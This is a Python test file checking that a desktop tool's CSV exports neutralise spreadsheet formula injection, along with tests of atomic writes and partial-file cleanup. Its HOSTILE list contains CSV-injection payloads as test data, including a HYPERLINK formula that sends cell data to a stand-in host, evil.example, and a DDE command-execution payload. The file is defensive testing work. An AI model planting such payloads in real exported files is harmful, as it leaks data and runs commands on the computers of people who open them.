"""No CSV the product writes holds a live spreadsheet formula (issue 15, acceptance 4).

Every CSV the product writes goes through one writer (:mod:`desktop.exchange.csv_table`):
a test reads the sources for any other, and every command that writes a CSV runs here on
a project whose articles, entities and facts are full of hostile text.
"""
from __future__ import annotations

import csv
import io
import os
import re
import time
from pathlib import Path

import pytest

from desktop import events, exchange, store
from desktop.cli import main
from desktop.exchange.common import ExchangeError, atomic_write
from desktop.exchange.csv_table import FORMULA_STARTS, csv_cell, write_csv

PACKAGE = Path(__file__).resolve().parents[1] / "desktop"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0", "-", "=",
]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def live_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: a formula start that is not a plain number such as -5."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not _number(cell)]


def test_no_csv_is_written_but_through_the_one_writer():
    """A new CSV writer (csv.writer, DictWriter, a hand-joined line) would bypass the neutralising cell."""
    own = PACKAGE / "exchange" / "csv_table.py"
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path == own:
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\b|\bwriterows?\(", source):
            offenders.append(str(path.relative_to(PACKAGE)))
    assert offenders == []


@pytest.mark.parametrize("value, cell", [
    pytest.param("=1+1", "'=1+1", id="equals"),
    pytest.param("+1", "'+1", id="plus"),
    pytest.param("-2+3", "'-2+3", id="minus"),
    pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
    pytest.param("\tx", "'\tx", id="tab"),
    pytest.param("\rx", "'\rx", id="carriage-return"),
    pytest.param(["=a", "b"], "'=a; b", id="list"),
    pytest.param(-5, -5, id="negative-number"),
    pytest.param(-5.5, -5.5, id="negative-float"),
    pytest.param(None, "", id="none"),
    pytest.param("Minsk", "Minsk", id="plain"),
])
def test_cells(value, cell):
    assert csv_cell(value) == cell


@pytest.fixture
def hostile_project(tmp_path):
    """A project whose every text field a CSV can show is hostile: paths, titles, entities, facts."""
    path = tmp_path / "project.sqlite"
    db = store.open_db(path)
    for n, text in enumerate(HOSTILE):
        store.upsert_entity(db, {"id": f"e{n}", "name": text, "label": "PERSON", "aliases": [text + " alias"]},
                            source="analyst")
    for n, text in enumerate(HOSTILE):
        body = f"{text} Putin met Lukashenko. Trade grew to $30 billion in 2021."
        doc = store.insert_document(db, path=f"{text}.txt", hash=f"h{n}", text=body, title=text,
                                    published="2021-12-28", status="verified")
        common = {"doc_id": doc, "status": "confirmed", "source": "rule", "evidence": text, "start": 0,
                  "end": len(text), "participants": [f"e{n}", "putin"]}
        db["facts"].insert(store.encode("facts", {
            **common, "kind": "meeting", "date_start": "2021-12-28", "date_end": "2021-12-28", "precision": "day",
            "place": text, "held": "held"}))
        db["facts"].insert(store.encode("facts", {
            **common, "kind": "trade", "value": 30e9, "currency": "USD", "change_pct": -5.0, "qualifier": text,
            "period_start": "2021-01-01", "period_end": "2021-12-31"}))
    events.update_events(db)
    db.close()
    return path


def _csv_outputs(path: Path, tmp_path: Path, capsys) -> dict[str, str]:
    """Every CSV the product writes, by the command that wrote it."""
    outputs: dict[str, str] = {}
    for what, formats in exchange.FORMATS.items():
        if "csv" not in formats:
            continue
        for extra in ([], ["--all"], ["--bom"]) if what == "facts" else ([], ["--bom"]):
            out = tmp_path / f"{what}{''.join(extra)}.csv"
            assert main(["export", "--db", str(path), "--what", what, "--format", "csv", "-o", str(out), *extra]) == 0
            outputs[f"export {what} {' '.join(extra)}"] = out.read_text(encoding="utf-8")
    capsys.readouterr()
    assert main(["facts", "--db", str(path), "--format", "csv"]) == 0
    outputs["facts --format csv"] = capsys.readouterr().out
    for what in ("trade", "meetings"):
        out = tmp_path / f"plot-{what}.csv"
        assert main(["plot", "--db", str(path), "--what", what, "-o", str(out)]) == 0
        outputs[f"plot {what}"] = out.read_text(encoding="utf-8")
    return outputs


def test_every_csv_the_product_writes_is_formula_free(hostile_project, tmp_path, capsys):
    outputs = _csv_outputs(hostile_project, tmp_path, capsys)
    assert {name: live_cells(text) for name, text in outputs.items()} == {name: [] for name in outputs}
    # The hostile text is there, quoted, where the writer carries it (the meeting counts carry none).
    for name, text in outputs.items():
        if name != "plot meetings":
            assert "'=HYPERLINK(" in text, name
    # A negative number stays a number.
    assert "-5.0" in outputs["export facts "] and "-5.0" in outputs["plot trade"]


def test_plot_csv_is_atomic(hostile_project, tmp_path, monkeypatch):
    from desktop.cli import plot as plot_cli

    out = tmp_path / "trade.csv"
    out.write_text("old\n", encoding="utf-8")

    def failing(handle, columns, rows):
        write_csv(handle, columns, list(rows)[:1])
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(plot_cli, "write_csv", failing)
    assert main(["plot", "--db", str(hostile_project), "--what", "trade", "-o", str(out)]) == 2
    assert out.read_text(encoding="utf-8") == "old\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_a_target_that_is_no_regular_file_is_refused_and_kept(tmp_path):
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    for target in (fifo, folder):
        with pytest.raises(ExchangeError, match="not a regular file"):
            with atomic_write(target) as out:
                out.write("x")
    assert not fifo.is_file() and fifo.exists() and folder.is_dir()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["folder.csv", "pipe.csv"]


def test_the_next_export_removes_parts_a_killed_export_left(tmp_path):
    target = tmp_path / "facts.csv"
    stale = tmp_path / ".facts.csv.0badcafe.part"
    stale.write_text("half", encoding="utf-8")
    old = time.time() - 3600
    os.utime(stale, (old, old))
    live = tmp_path / ".facts.csv.1234abcd.part"  # another export writing now: left alone
    live.write_text("writing", encoding="utf-8")
    with atomic_write(target) as out:
        out.write("a,b\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == [live.name, "facts.csv"]
